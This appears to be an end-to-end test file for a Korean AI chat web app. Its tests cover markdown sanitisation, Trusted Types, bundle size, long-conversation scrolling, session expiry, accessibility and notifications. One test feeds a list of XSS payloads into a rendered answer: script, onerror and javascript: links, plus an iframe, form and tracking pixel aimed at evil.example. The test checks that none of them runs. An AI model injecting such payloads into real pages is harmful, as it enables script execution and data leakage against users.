import { afterAll, afterEach, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { sql } from 'kysely';
import { createToken, revokeToken } from '../../db/users.ts';
import { audit } from './audit.ts';
import { ask, openStage, type Stage } from './stage.ts';
import type { Person } from '../support/stack.ts';

jest.setTimeout(60_000);
let stage: Stage;
let person: Person;

beforeAll(async () => {
  stage = await openStage();
  person = await stage.stack.person();
});
afterEach(() => {
  expect(stage.complaints()).toEqual([]);
});
afterAll(() => stage.close());

const HOSTILE = [
  '<img src=x onerror="window.__run = 1">', '<script>window.__run = 1</script>', '<iframe src="https://evil.example"></iframe>', '<svg onload="window.__run = 1">', '<style>body { display: none }</style>',
  '![그림](https://evil.example/pixel.png?q=secret)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '[눌러](javascript:window.__run=1)', '[눌러](data:text/html,x)', '[눌러](  JaVaScRiPt:window.__run=1)',
  '<a href="javascript:window.__run=1">x</a>', '[괜찮은 링크](https://example.com/a)', '<form action="https://evil.example"><input name=a></form>', '`<b>코드</b>`', '[참조][1]\n\n[1]: javascript:window.__run=1',
];

test('nothing an answer holds runs, loads or becomes an element that markdown has no sign for', async () => {
  const page = await stage.visitAs(person, '/');
  const foreign: string[] = [];
  page.on('request', (request) => { if (!request.url().startsWith(stage.stack.url)) foreign.push(request.url()); });
  const chunks = HOSTILE.join('\n\n').match(/.{1,9}/gs) ?? [];
  stage.stack.model.next({ chunks, delayMs: 1 });
  await ask(page, '나쁜 마크다운');
  await page.getByRole('article', { name: '답변' }).getByText(/토큰 · gpt/).waitFor();
  const answer = page.getByRole('article', { name: '답변' }).locator('.answer');
  expect(await answer.locator('img, script, iframe, style, form, object, embed, link, svg:not([aria-hidden])').count()).toBe(0);
  expect(await answer.locator('a').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href))).toEqual(['https://evil.example/pixel.png?q=secret', 'https://example.com/a']);
  expect(await answer.locator('a').first().getAttribute('rel')).toBe('noopener noreferrer nofollow');
  expect(await answer.innerText()).toContain('<script>window.__run = 1</script>');
  expect(await page.evaluate(() => (window as unknown as { __run?: number }).__run)).toBeUndefined();
  expect(foreign).toEqual([]);
});

test('the page\'s policy stops what would run if it ever came to that', async () => {
  const page = await stage.visitAs(person, '/');
  const refused = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>x</b>';
      return 'written';
    } catch (error) {
      return String(error);
    }
  });
  expect(refused).toContain('TrustedHTML');
  expect(stage.complaints().join()).toContain('Trusted');
});

test('the first load of a chat page takes less than 200 KB of script, and admin pages are none of it', async () => {
  const { body } = await person.call('POST', '/api/chat/send', { message: '**굵게** 답해 줘' });
  const page = await stage.visitAs(person, `/c/${body.conversationId}`);
  await page.getByRole('article', { name: '답변' }).locator('.answer p').waitFor();
  await stage.settled(page);
  const scripts = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.endsWith('.js')));
  const sizes = await Promise.all(scripts.map(async (url) => {
    const compressed = await fetch(url, { headers: { 'accept-encoding': 'gzip' } });
    return Number(compressed.headers.get('content-length'));
  }));
  expect(sizes.every((size) => size > 0)).toBe(true);
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(200_000);
  expect(scripts.filter((url) => /admin|highlight|OpenMenu|Panel/i.test(url))).toEqual([]);
});

test('a long conversation has a bounded number of rows in the page, and all of it can be reached', async () => {
  const reader = await stage.stack.person();
  const { body } = await reader.call('POST', '/api/chat/send', { message: '첫 질문' });
  await sql`insert into turns (id, user_id, account_id, conversation_id, sequence, state, model, body_hash, question, question_tokens, encoding, answer, attempt, ever_admitted, admitted_at, ended_at,
      finish_reason, prompt_tokens, completion_tokens, debited_tokens, estimated)
    select gen_random_uuid(), user_id, account_id, conversation_id, sequence + n, state, model, body_hash, '질문 ' || n, question_tokens, encoding, '답변 ' || n, attempt, ever_admitted, admitted_at, ended_at,
      finish_reason, prompt_tokens, completion_tokens, debited_tokens, estimated
    from turns, generate_series(1, 400) n where id = ${body.turnId}`.execute(stage.stack.db.database.sql);
  const page = await stage.visitAs(reader, `/c/${body.conversationId}`);
  await page.getByText('답변 400', { exact: true }).waitFor();
  const region = page.getByRole('region', { name: '대화 내용' });
  const most = { rows: 0 };
  while (await page.getByRole('article').getByText('첫 질문', { exact: true }).count() === 0) {
    await region.evaluate((box) => box.scrollBy(0, -1_500));
    await page.waitForTimeout(20);
    most.rows = Math.max(most.rows, await page.locator('[data-row]').count());
  }
  expect(most.rows).toBeGreaterThan(60);
  expect(most.rows).toBeLessThanOrEqual(120);
  await page.getByRole('button', { name: '맨 아래로' }).click();
  await page.getByText('답변 400', { exact: true }).waitFor();
});

describe('signing in', () => {
  test('a session that has ended says so and comes back to the same place', async () => {
    const guest = await stage.stack.person();
    const { body } = await guest.call('POST', '/api/chat/send', { message: '돌아올 대화' });
    const page = await stage.visitAs(guest, `/c/${body.conversationId}`);
    await page.getByRole('article', { name: '내 질문' }).getByText('돌아올 대화').waitFor();
    await page.getByLabel('메시지', { exact: true }).fill('쓰던 글');
    await revokeToken(stage.stack.db.database, { token: guest.token });
    // The person comes back to the tab, which looks what was read elsewhere.
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
    await page.getByText(/로그인이 만료되었습니다/).waitFor();
    expect(await audit(page)).toEqual([]);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    const { token } = await createToken(stage.stack.db.database, { userId: guest.userId });
    await page.getByLabel('API 키').fill('tk_wrong');
    await page.keyboard.press('Enter');
    await page.getByText(/사용할 수 없는 키입니다/).waitFor();
    await page.getByLabel('API 키').fill(token);
    await page.keyboard.press('Enter');
    await page.getByRole('article', { name: '내 질문' }).getByText('돌아올 대화').waitFor();
    expect(await page.getByLabel('메시지', { exact: true }).inputValue()).toBe('쓰던 글');
    // Nobody asked to stay signed in: the key is in memory only.
    expect(await page.evaluate(() => [sessionStorage.length, JSON.stringify(localStorage)])).toEqual([0, expect.not.stringContaining('tk_')]);
  });
});

// Pairwise: each language with each width, each width with each scheme, over three pages.
test.each([
  ['ko-KR', 390, 'light', '/'], ['en-US', 390, 'dark', '/usage'], ['ko-KR', 1280, 'dark', '/preferences'], ['en-US', 1280, 'light', '/'], ['ko-KR', 390, 'dark', '/preferences'], ['en-US', 1280, 'dark', '/usage'],
] as const)('%s at %i px, %s: %s has no fault that axe knows, nothing sticks out, and the keyboard reaches it all', async (locale, width, colorScheme, path) => {
  const guest = await stage.stack.person();
  await guest.call('PATCH', '/api/me', { locale: locale.slice(0, 2) });
  const page = await stage.visitAs(guest, path, { viewport: { width, height: 800 }, locale, colorScheme });
  await page.getByRole('button', { name: /내 계정|Your account/ }).waitFor();
  await stage.settled(page);
  expect(await audit(page)).toEqual([]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  const reached = new Set<string>();
  for (let i = 0; i < 60; i += 1) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent?.trim() ?? ''));
  }
  const controls = await page.locator('button:visible, a[href]:visible, input:visible:not([type=radio]), select:visible, textarea:visible').evaluateAll((elements) => elements
    .filter((element) => !(element as HTMLButtonElement).disabled && !element.className.includes('sr-only'))
    .map((element) => element.getAttribute('aria-label') ?? element.textContent?.trim() ?? ''));
  expect(controls.filter((name) => !reached.has(name))).toEqual([]);
});

test('a notification pops up where the person is, is counted on the bell, read once and gone', async () => {
  const guest = await stage.stack.person();
  const page = await stage.visitAs(guest, '/');
  await page.getByRole('button', { name: '알림', exact: true }).waitFor();
  await stage.settled(page);
  await guest.call('POST', '/api/ai-usage/test-usage', { userId: guest.userId, usagePercent: 96 });
  const popUp = page.getByTestId('pop-up');
  await popUp.waitFor();
  expect(await popUp.getByRole('link', { name: /토큰 구매/ }).getAttribute('href')).toBe('https://turnkeeper.example/purchase');
  expect(await audit(page)).toEqual([]);
  await page.getByRole('button', { name: '읽지 않은 알림 1개' }).click();
  const panel = page.getByRole('dialog', { name: '알림' });
  await panel.getByRole('article').waitFor();
  expect(await audit(page)).toEqual([]);
  await panel.getByRole('button', { name: '모두 읽음으로 표시' }).click();
  await page.getByRole('button', { name: '알림', exact: true, includeHidden: true }).waitFor();
  await popUp.waitFor({ state: 'detached' });
  expect((await guest.call('GET', '/api/notifications')).body.unreadCount).toBe(0);
});
